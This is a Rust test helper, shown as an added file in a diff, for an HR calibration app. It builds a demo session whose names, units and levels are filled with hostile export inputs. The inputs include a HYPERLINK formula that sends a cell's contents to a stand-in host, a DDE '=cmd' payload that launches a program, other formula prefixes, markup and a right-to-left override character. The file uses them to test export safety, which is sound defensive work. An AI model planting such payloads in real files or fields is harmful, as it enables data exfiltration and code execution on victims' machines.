@@ -1,0 +1,45 @@
+//! Shared by the export tests: the demo with hostile names in every text a user can type.
+
+#![allow(dead_code, clippy::unwrap_used)]
+
+use kalibrer::model::Session;
+
+/// Names that would run as a formula, render as markup, expand as a placeholder or turn
+/// the text around them right to left.
+pub const HOSTILE: [&str; 8] = [
+    "=HYPERLINK(\"http://x/?d=\"&F2;\"Klik\")",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "<b>x</b>",
+    "{{beløb}}",
+    "\u{202e}Ida Holm",
+    "\t=1+1",
+];
+
+/// An HR id with leading zeros.
+pub const ZERO_ID: &str = "0071234";
+
+/// The demo session, parsed.
+pub fn demo() -> Session {
+    kalibrer::io::parse_session(kalibrer::io::DEMO_RON).unwrap()
+}
+
+/// The demo with [`HOSTILE`] as names and units, a 40,000-character name, [`ZERO_ID`] as an
+/// id, and levels named `'Kontorchef'` (next to the real Kontorchef), `History` and a
+/// formula with every character Excel forbids in a sheet name.
+pub fn hostile_session() -> Session {
+    let mut s = demo();
+    for (k, text) in HOSTILE.iter().enumerate() {
+        s.managers[k].name = (*text).to_string();
+        s.managers[k + HOSTILE.len()].unit = (*text).to_string();
+    }
+    s.managers[20].name = "Ø".repeat(40_000);
+    s.managers[21].id = ZERO_ID.to_string();
+    let names = ["'Kontorchef'", "History", "=cmd|' /C calc'!A0 [a]:*?/\\ og en meget lang niveaubetegnelse"];
+    for (level, name) in s.levels.iter_mut().filter(|l| l.name != "Kontorchef").zip(names) {
+        level.name = name.to_string();
+    }
+    s.organisation.name = "Styrelsen for R&D <b>&P</b>".to_string();
+    s
+}
